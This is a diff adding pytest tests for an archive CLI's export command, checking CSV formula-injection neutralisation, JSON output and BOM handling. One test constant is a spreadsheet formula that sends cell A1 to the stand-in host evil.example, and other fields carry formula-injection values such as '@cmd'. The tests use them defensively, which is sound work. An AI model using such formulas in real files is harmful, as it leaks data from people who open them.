@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import csv
+import json
 import uuid
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -18,6 +19,8 @@ import archive.main
 from archive.repository import Archive
 from archive.settings import ArchiveSettings
 from cityprize.archive_cli import archive_app
+from contracts.envelope import Event
+from contracts.events import SubmissionReceived
 from contracts.subjects import Stream, durable_name
 from servicekit.broker import publish_event
 from servicekit.embedded.ports import free_port
@@ -28,8 +31,14 @@ TOKEN = "cli-staff-token"
 
 
 @pytest.fixture
+def extra_events() -> list[Event]:
+    """Events archived after the story; a test overrides it by parametrizing `extra_events`."""
+    return []
+
+
+@pytest.fixture
 async def archive_url(
-    nats_url: str, mongo_client: Any, monkeypatch: pytest.MonkeyPatch
+    nats_url: str, mongo_client: Any, monkeypatch: pytest.MonkeyPatch, extra_events: list[Event]
 ) -> AsyncIterator[str]:
     """The archive served over real HTTP, with a small contest archived."""
     name = f"cli_{uuid.uuid4().hex[:12]}"
@@ -50,7 +59,7 @@ async def archive_url(
         return bool(server.started)
 
     await eventually(started, what="the archive serving HTTP")
-    story = contest_story(seed=5, submissions=2)
+    story = [*contest_story(seed=5, submissions=2), *extra_events]
     for event in story:
         await publish_event(broker_of(app), event)
     store: Archive = app.state.archive
@@ -131,4 +140,66 @@ async def test_an_export_with_a_wrong_token_writes_no_file(
     refused = await cli("export", str(target), "--format", "json")
     assert refused.exit_code == 1
     assert "401" in refused.output
+    assert not target.exists()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open plan")'
+KOREAN = "서울 스마트 도시 개방 사업"
+
+
+def _submission(submission_id: str, title: str, city: str) -> SubmissionReceived:
+    first = next(e for e in contest_story(seed=5) if isinstance(e, SubmissionReceived))
+    return first.model_copy(
+        update={
+            "event_id": uuid.uuid4().hex,
+            "submission_id": submission_id,
+            "title": title,
+            "city": city,
+            "application": {"title": title},
+        }
+    )
+
+
+@pytest.mark.parametrize(
+    "extra_events",
+    [[_submission("s-100", HYPERLINK, "@cmd"), _submission("s-101", KOREAN, "+SUM(1)")]],
+)
+async def test_a_formula_title_is_exported_inert_to_csv_and_as_written_to_json(
+    archive_url: str, tmp_path: Path
+):
+    as_csv, as_json = tmp_path / "submissions.csv", tmp_path / "submissions.json"
+    assert (await cli("export", str(as_csv), "--format", "csv")).exit_code == 0
+    assert (await cli("export", str(as_json), "--format", "json")).exit_code == 0
+    rows = {row["submission_id"]: row for row in csv.DictReader(as_csv.open(encoding="utf-8"))}
+    assert rows["s-100"]["title"] == "'" + HYPERLINK
+    assert rows["s-100"]["city"] == "'@cmd"
+    assert rows["s-101"]["city"] == "'+SUM(1)"
+    records = {r["submission_id"]: r for r in json.loads(as_json.read_text(encoding="utf-8"))}
+    assert (records["s-100"]["title"], records["s-101"]["city"]) == (HYPERLINK, "+SUM(1)")
+
+
+@pytest.mark.parametrize("extra_events", [[_submission("s-101", KOREAN, "Seoul")]])
+async def test_a_csv_export_with_bom_opens_as_utf8_in_excel(archive_url: str, tmp_path: Path):
+    target = tmp_path / "submissions.csv"
+    exported = await cli("export", str(target), "--format", "csv", "--bom")
+    assert exported.exit_code == 0, exported.output
+    raw = target.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    assert not raw[3:].startswith(b"\xef\xbb\xbf"), "one BOM, not one per chunk"
+    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
+    assert KOREAN in [row["title"] for row in rows]
+    assert next(iter(rows[0])) == "contest_id"
+
+
+async def test_without_bom_the_csv_starts_with_its_header(archive_url: str, tmp_path: Path):
+    target = tmp_path / "submissions.csv"
+    assert (await cli("export", str(target), "--format", "csv")).exit_code == 0
+    assert target.read_bytes().startswith(b"contest_id,")
+
+
+async def test_bom_is_refused_for_a_json_export(archive_url: str, tmp_path: Path):
+    target = tmp_path / "submissions.json"
+    refused = await cli("export", str(target), "--format", "json", "--bom")
+    assert refused.exit_code == 2
+    assert "--bom applies to the CSV export only" in refused.output
     assert not target.exists()
